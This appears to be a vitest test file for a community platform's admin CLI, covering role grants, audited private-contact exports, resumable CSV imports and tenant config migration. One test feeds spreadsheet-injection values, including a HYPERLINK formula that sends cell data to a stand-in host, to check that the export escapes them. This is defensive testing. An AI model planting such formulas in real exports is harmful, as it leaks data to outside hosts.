import { createHash } from "node:crypto";
import fs from "node:fs/promises";
import os from "node:os";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { createTestEnv, type TestEnv } from "../../tests/support/harness.ts";
import { uniqueEmail } from "../../tests/support/users.ts";
import { cliSession } from "./run-cli.ts";

vi.setConfig({ testTimeout: 120_000 });

const root = path.resolve(import.meta.dirname, "../..");
let env: TestEnv;
let tmp: string;

const cli = cliSession(() => env.dbUrl);
function runCli(args: string[]) {
  return cli.run(args);
}

beforeAll(async () => {
  env = await createTestEnv();
  tmp = await fs.mkdtemp(path.join(os.tmpdir(), "tuesday-operator-misc-"));
});
afterAll(async () => {
  await cli.close();
  await env?.close();
  if (tmp) await fs.rm(tmp, { recursive: true, force: true });
});

describe("tuesday admin grant / revoke / list", () => {
  it("grants and revokes roles of an existing account, audited with the operator as actor", async () => {
    const email = uniqueEmail("staff");
    const created = await runCli(["admin", "create", "--community", "alpha", "--email", email, "--no-password", "--role", "moderator", "--json"]);
    expect(created.code, created.stderr).toBe(0);
    expect(JSON.parse(created.stdout)).toMatchObject({ email, role: "moderator", communityId: "alpha" });

    const granted = await runCli(["--json", "admin", "grant", "--community", "beta", "--email", email, "--role", "admin"]);
    expect(granted.code, granted.stderr).toBe(0);
    expect(JSON.parse(granted.stdout)).toMatchObject({ email, before: null, after: "admin" });
    const list = JSON.parse((await runCli(["admin", "list", "--community", "alpha", "--json"])).stdout) as { email: string; role: string }[];
    expect(list).toContainEqual(expect.objectContaining({ email, role: "moderator" }));

    const revoked = await runCli(["admin", "revoke", "--community", "alpha", "--email", email]);
    expect(revoked.code, revoked.stderr).toBe(0);
    expect(revoked.stdout).toContain(`${email}: moderator -> member in alpha.`);
    const audit = await env.db<{ community_id: string; after: { role: string } }[]>`
      select community_id, after from audit_events where action = 'participant.role' and actor_kind = 'operator' and after->>'email' = ${email} order by id`;
    expect(audit.map((a) => [a.community_id, a.after.role])).toEqual([
      ["alpha", "moderator"],
      ["beta", "admin"],
      ["alpha", "member"],
    ]);

    const unknown = await runCli(["admin", "grant", "--community", "alpha", "--email", uniqueEmail("nobody"), "--role", "admin"]);
    expect(unknown.code).toBe(1);
    expect(unknown.stderr).toMatch(/error: No account with the e-mail .*tuesday admin create/);
    const badRole = await runCli(["admin", "grant", "--community", "alpha", "--email", email, "--role", "owner"]);
    expect(badRole.code).toBe(2);
  });
});

describe("tuesday members export", () => {
  it("writes CSV without hidden contacts; --include-private includes them and is audited", async () => {
    const file = path.join(tmp, "in.csv");
    await fs.writeFile(
      file,
      "name,email,linkedin,telegram,company\nHidden Person,hidden@export.example,https://www.linkedin.com/in/hidden-person,@hiddenperson,Acme\nOpen Person,open@export.example,https://www.linkedin.com/in/open-person,@openperson,Globex\n",
    );
    const imported = await runCli(["members", "import", "--community", "alpha", file]);
    expect(imported.code, imported.stderr).toBe(0);
    await env.db`update participants p set privacy = 'PRIVATE' from users u where u.id = p.user_id and u.email = 'hidden@export.example'`;

    const out = path.join(tmp, "out.csv");
    const r = await runCli(["members", "export", "--community", "alpha", "--out", out]);
    expect(r.code, r.stderr).toBe(0);
    const text = await fs.readFile(out, "utf8");
    const lines = text.trim().split("\n");
    expect(lines[0]).toMatch(/^email,first_name,last_name,company,position,city,tags,looking_for,can_help_with,community_role,moderation_status,/);
    const hidden = lines.find((l) => l.startsWith("hidden@export.example"));
    expect(hidden).toContain("Hidden,Person,Acme");
    expect(hidden).not.toContain("linkedin.com");
    expect(lines.find((l) => l.startsWith("open@export.example"))).toContain("linkedin.com/in/open-person");

    const priv = await runCli(["--json", "members", "export", "--community", "alpha", "--out", out, "--include-private"]);
    expect(JSON.parse(priv.stdout)).toMatchObject({ ok: true, includePrivate: true });
    expect((await fs.readFile(out, "utf8")).split("\n").find((l) => l.startsWith("hidden@export.example"))).toContain("linkedin.com/in/hidden-person");
    expect(await env.db`select 1 from audit_events where community_id = 'alpha' and action = 'members.export_private' and actor_kind = 'operator'`).toHaveLength(1);

    // The export reads back in: the same members, none added. Only the accounts `admin create`
    // made without a name (earlier in this file) are refused, for the missing name.
    const back = await runCli(["--json", "members", "import", "--community", "alpha", out, "--dry-run"]);
    const report = JSON.parse(back.stdout);
    expect(report).toMatchObject({ wouldCreate: 0, duplicatesInFile: [] });
    expect(report.valid).toBeGreaterThanOrEqual(2);
    for (const p of report.invalid) expect(p.errors).toEqual(["name: Required (a name, or first name and last name)"]);
  });
});

describe("tuesday members export, formulas", () => {
  it("writes cells a spreadsheet would run as formulas as text, as the console's export does", async () => {
    const file = path.join(tmp, "formulas.csv");
    const cells = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+SUM(A1:A9)", "-1+1", "@SUM(A1)", "\t=1+1", "\r=2+2"];
    const rows = cells.map((c, i) => `Formula${String.fromCharCode(65 + i)} Person,formula${i}@export.example,"${c.replaceAll('"', '""')}"`);
    await fs.writeFile(file, `name,email,company\n${rows.join("\n")}\n`);
    const imported = await runCli(["members", "import", "--community", "beta", file]);
    expect(imported.code, imported.stderr).toBe(0);
    const stored = await env.db<{ company: string }[]>`
      select p.company from participants p join users u on u.id = p.user_id where p.community_id = 'beta' and u.email like 'formula%@export.example' order by u.email`;
    expect(stored.map((r) => r.company)).toEqual(cells.map((c) => c.trim()));

    const out = path.join(tmp, "formulas-out.csv");
    const r = await runCli(["members", "export", "--community", "beta", "--out", out]);
    expect(r.code, r.stderr).toBe(0);
    const text = await fs.readFile(out, "utf8");
    expect(text.startsWith("\uFEFFemail,")).toBe(true);
    const { parse } = await import("csv-parse/sync");
    const records = parse(text, { bom: true, columns: true }) as Record<string, string>[];
    for (const [i, c] of stored.map((s) => s.company).entries()) {
      expect(records.find((rec) => rec.email === `formula${i}@export.example`)?.company).toBe(`'${c}`);
    }
    // No cell of the file starts a formula.
    for (const rec of records) for (const v of Object.values(rec)) expect(v).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe("tuesday members import, resumed", () => {
  it("imports only the rows no committed batch of a stopped run covered (batches commit out of order)", async () => {
    const file = path.join(tmp, "resume.csv");
    const rows = Array.from({ length: 12 }, (_, i) => `Resumed${String.fromCharCode(65 + i)} Person,resume${i}@import.example`);
    await fs.writeFile(file, `name,email\n${rows.join("\n")}\n`);
    // What a stopped run left behind (the key: the file's path, size and mtime): its batches of
    // rows 1-5 and 9-10 committed, the one of rows 6-8 (written at the same time) did not.
    const stat = await fs.stat(file);
    const key = createHash("sha256").update(`${path.resolve(file)}\n${stat.size}\n${stat.mtimeMs}`).digest("hex");
    await env.db`insert into member_import_checkpoints (community_id, file_key, done) values ('beta', ${key}, '{[1,5], [9,10]}')`;
    const r = await runCli(["--json", "members", "import", "--community", "beta", file, "--batch-size", "2"]);
    expect(r.code, r.stderr).toBe(0);
    expect(r.stderr).toContain("Resuming: 7 rows were imported by an earlier run that stopped midway.");
    expect(JSON.parse(r.stdout)).toMatchObject({ created: 5, resumedRows: 7 });
    const emails = await env.db<{ email: string }[]>`
      select u.email::text as email from participants p join users u on u.id = p.user_id where p.community_id = 'beta' and u.email like 'resume%' order by 1`;
    // Data row n holds resume{n-1}: rows 6, 7, 8, 11 and 12.
    expect(emails.map((e) => e.email)).toEqual(["resume10@import.example", "resume11@import.example", ...[5, 6, 7].map((i) => `resume${i}@import.example`)]);
    expect(await env.db`select 1 from member_import_checkpoints where file_key = ${key}`).toHaveLength(0);
  });

  it("checkpoints each committed batch's rows; a failed batch leaves its rows to the resumed run", async () => {
    const file = path.join(tmp, "stop.csv");
    const rows = Array.from({ length: 9 }, (_, i) => `Stopped${String.fromCharCode(65 + i)} Person,stop${i}@import.example`);
    await fs.writeFile(file, `name,email\n${rows.join("\n")}\n`);
    const stat = await fs.stat(file);
    const key = createHash("sha256").update(`${path.resolve(file)}\n${stat.size}\n${stat.mtimeMs}`).digest("hex");
    // The account of row 5 is taken (deleted) between the check and the write: its batch fails.
    await env.db`insert into users (email, home_community_id, deleted_at) values ('stop4@import.example', 'beta', now())`;
    const r = await runCli(["--json", "members", "import", "--community", "beta", file, "--batch-size", "2", "--parallel", "1"]);
    expect(r.code).toBe(1);
    const [cp] = await env.db<{ done: string }[]>`select done::text from member_import_checkpoints where file_key = ${key}`;
    expect(cp?.done).toBe("{[1,5)}");
    const imported = await env.db<{ email: string }[]>`
      select u.email::text as email from participants p join users u on u.id = p.user_id where p.community_id = 'beta' and u.email like 'stop%' order by 1`;
    expect(imported.map((e) => e.email)).toEqual(["stop0@import.example", "stop1@import.example", "stop2@import.example", "stop3@import.example"]);
  });
});

describe("tuesday tenant migrate", () => {
  it("upgrades a version 1 tenant.json to version 2 (policyLinks.asPlainText renamed plainText); validate then passes", async () => {
    const dir = path.join(tmp, "tenants", "legacy");
    await fs.mkdir(dir, { recursive: true });
    const v1 = { version: 1, id: "legacy", domain: "legacy.example", title: "Legacy", policyLinks: { terms: "/terms.txt", asPlainText: true }, senderEmail: "a@legacy.example", brandConfig: { title: "L" }, authConfig: [{ authType: "EMAIL" }] };
    await fs.writeFile(path.join(dir, "tenant.json"), JSON.stringify(v1));
    const validateOld = await runCli(["tenant", "validate", dir]);
    expect(validateOld.code, validateOld.stderr).toBe(0);
    expect(validateOld.stderr).toContain("version: 1, current is 2 (run `tuesday tenant migrate legacy`)");

    const dry = await runCli(["tenant", "migrate", dir, "--dry-run"]);
    expect(dry.stdout).toContain(`would migrate  ${path.join(dir, "tenant.json")}\n  1 -> 2: policyLinks.asPlainText renamed policyLinks.plainText`);
    expect(JSON.parse(await fs.readFile(path.join(dir, "tenant.json"), "utf8")).version).toBe(1);
    const r = await runCli(["--json", "tenant", "migrate", "--dir", path.join(tmp, "tenants")]);
    expect(r.code, r.stderr).toBe(0);
    expect(JSON.parse(r.stdout).files).toMatchObject([{ from: 1, to: 2 }]);
    const migrated = JSON.parse(await fs.readFile(path.join(dir, "tenant.json"), "utf8"));
    expect(migrated).toMatchObject({ version: 2, policyLinks: { terms: "/terms.txt", plainText: true } });
    expect(migrated.policyLinks).not.toHaveProperty("asPlainText");
    const validate = await runCli(["tenant", "validate", dir]);
    expect(validate).toMatchObject({ code: 0, stderr: "" });
  });
});

describe("tuesday openapi, db status, completion, --help", () => {
  it("prints the same OpenAPI document as `npm run openapi` writes", async () => {
    const out = path.join(tmp, "openapi.json");
    const r = await runCli(["openapi", "--out", out]);
    expect(r.code, r.stderr).toBe(0);
    expect(await fs.readFile(out, "utf8")).toBe(await fs.readFile(path.join(root, "openapi/openapi.json"), "utf8"));
  });

  it("db status lists every migration as applied", async () => {
    const r = await runCli(["db", "status", "--json"]);
    expect(r.code, r.stderr).toBe(0);
    const status = JSON.parse(r.stdout);
    expect(status.pending).toBe(0);
    expect(status.migrations).toContainEqual(expect.objectContaining({ name: "020_member_import.sql" }));
  });

  it("completion bash|zsh prints scripts that know the commands; --help shows examples", async () => {
    const bash = await runCli(["completion", "bash"]);
    expect(bash.code).toBe(0);
    expect(bash.stdout).toContain("complete -o default -F _tuesday tuesday");
    expect(bash.stdout).toMatch(/"members import"\) words="[^"]*--dry-run[^"]*--invite/);
    const zsh = await runCli(["completion", "zsh"]);
    expect(zsh.stdout).toContain("#compdef tuesday");
    const help = await runCli(["members", "import", "--help"]);
    expect(help.code).toBe(0);
    expect(help.stdout).toContain("Examples:\n  tuesday members import --community founders members.csv --dry-run");
    expect(help.stdout).toContain("--database-url <url>");
    const bad = await runCli(["completion", "fish"]);
    expect(bad.code).toBe(2);
    expect(bad.stderr).toContain('error: unknown shell "fish" (hint: bash or zsh)');
  });
});
